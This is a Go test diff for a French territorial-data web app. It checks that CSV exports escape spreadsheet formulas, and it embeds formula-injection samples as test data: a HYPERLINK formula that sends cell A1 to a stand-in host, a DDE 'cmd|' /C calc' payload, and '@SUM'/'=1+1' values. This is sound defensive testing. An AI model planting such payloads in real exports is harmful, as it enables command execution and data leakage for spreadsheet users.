@@ -2,15 +2,20 @@ package web
 
 import (
 	"bytes"
+	"context"
+	"encoding/csv"
 	"io"
 	"mime/multipart"
 	"net/http"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 
+	"github.com/ctg-territoires/ctg/examples"
 	"github.com/ctg-territoires/ctg/internal/app"
+	"github.com/ctg-territoires/ctg/internal/auth"
 )
 
 // upload sends a multipart form with a file of size bytes as the given
@@ -74,5 +79,96 @@ func TestUploadOverLimitRefused(t *testing.T) {
 	status, page := e.upload(t, "editeur", "/c/"+slug+"/collecte/import", e.sessions["editeur"].csrf, app.MaxImportSize+2<<20)
 	if status != http.StatusRequestEntityTooLarge || !strings.Contains(page, "trop volumineux : 4 Mo au plus") {
 		t.Errorf("fichier trop gros : %d\n%s", status, page)
+	}
+}
+
+// csvCells fetches a CSV export as a role and returns its cells.
+func (e *testEnv) csvCells(t *testing.T, role, path string) [][]string {
+	t.Helper()
+	resp, body := e.do(t, role, "GET", path, nil)
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("%s : %d", path, resp.StatusCode)
+	}
+	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF")))
+	cr.Comma, cr.FieldsPerRecord = ';', -1
+	rows, err := cr.ReadAll()
+	if err != nil {
+		t.Fatalf("%s : %v", path, err)
+	}
+	return rows
+}
+
+// formulas lists the cells a spreadsheet would run as formulas.
+func formulas(rows [][]string) []string {
+	var out []string
+	for _, row := range rows {
+		for _, cell := range row {
+			t := strings.TrimLeft(cell, " ")
+			if t != "" && strings.ContainsAny(t[:1], "=+-@\t\r") {
+				if _, err := strconv.ParseFloat(strings.Replace(t, ",", ".", 1), 64); err != nil {
+					out = append(out, cell)
+				}
+			}
+		}
+	}
+	return out
+}
+
+// Texts typed by users reach the CSV exports as texts, never as formulas a
+// spreadsheet would run; numbers stay numbers, and an exported values file
+// imports back unchanged.
+func TestCSVExportsNeutraliseFormulas(t *testing.T) {
+	e := newEnv(t)
+	ctx := context.Background()
+	hyperlink := `=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")`
+	conv := strings.Replace(string(examples.Forcalquier), "slug: ctg-forcalquier-2022", "slug: formules-ctg", 1)
+	conv = strings.Replace(conv, "name: Accueil Ados - La Cordelière", "name: '"+hyperlink+"'", 1)
+	conv = strings.Replace(conv, "operator_name: CENTRE SOCIOCULTUREL LA CORDELIERE", "operator_name: '@SUM(1+1)'", 1)
+	if _, err := e.svc.Import(ctx, []byte(conv), false); err != nil {
+		t.Fatal(err)
+	}
+	equipments := e.csvCells(t, "plateforme", "/c/formules-ctg/equipements.csv")
+	if bad := formulas(equipments); len(bad) > 0 {
+		t.Errorf("equipements.csv : formules laissées telles quelles : %q", bad)
+	}
+	if equipments[1][0] != "'@SUM(1+1)" || equipments[1][1] != "'"+hyperlink {
+		t.Errorf("equipements.csv, première ligne : %q", equipments[1])
+	}
+
+	values := "Code;Période;Ventilation;Valeur;Texte;Source;Commentaire\r\n" +
+		"2.2-1;2023;;1254;;+33 4 92 00 00 00;=1+1\r\n" +
+		"2.2-3;2023;;312,5;;;\r\n" +
+		"2.1-4;2023;;;-2+3+cmd|' /C calc'!A0;@fichier;\r\n"
+	if n, err := e.svc.ImportValuesCSV(ctx, auth.System, slug, strings.NewReader(values)); err != nil || n != 3 {
+		t.Fatalf("import : %d %v", n, err)
+	}
+	exported := e.csvCells(t, "editeur", "/c/"+slug+"/indicateurs.csv")
+	if bad := formulas(exported); len(bad) > 0 {
+		t.Errorf("indicateurs.csv : formules laissées telles quelles : %q", bad)
+	}
+	cells := map[string]bool{}
+	for _, row := range exported {
+		for _, c := range row {
+			cells[c] = true
+		}
+	}
+	for _, want := range []string{"1254", "312,5", "'-2+3+cmd|' /C calc'!A0", "'@fichier", "'+33 4 92 00 00 00", "'=1+1"} {
+		if !cells[want] {
+			t.Errorf("indicateurs.csv : cellule %q absente", want)
+		}
+	}
+	// Its real values (the demonstration ones are left out) import back
+	// as they were: nothing to write.
+	var real bytes.Buffer
+	cw := csv.NewWriter(&real)
+	cw.Comma = ';'
+	for _, row := range exported {
+		if row[len(row)-1] != "oui" {
+			_ = cw.Write(row)
+		}
+	}
+	cw.Flush()
+	if n, err := e.svc.ImportValuesCSV(ctx, auth.System, slug, &real); err != nil || n != 0 {
+		t.Errorf("indicateurs.csv réimporté tel quel : %d valeur(s) écrite(s), %v", n, err)
 	}
 }
